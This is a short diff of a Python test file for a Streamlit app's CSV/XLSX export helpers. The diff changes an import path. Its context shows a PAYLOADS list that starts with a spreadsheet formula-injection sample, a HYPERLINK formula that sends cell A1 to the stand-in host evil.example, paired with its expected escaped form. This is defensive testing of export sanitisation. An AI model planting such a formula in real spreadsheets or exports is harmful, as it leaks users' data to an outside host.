@@ -13,8 +13,8 @@ import pytest
 from conftest import ROOT, as_shown
 from streamlit.testing.v1 import AppTest
 
+from exports.downloads import HEADER_ROWS, Column, Export, safe_cell, safe_csv_frame, to_csv, to_xlsx
 from i18n import md_text
-from reports.downloads import HEADER_ROWS, Column, Export, safe_cell, safe_csv_frame, to_csv, to_xlsx
 
 PAYLOADS = [
     ('=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击查看\")"),
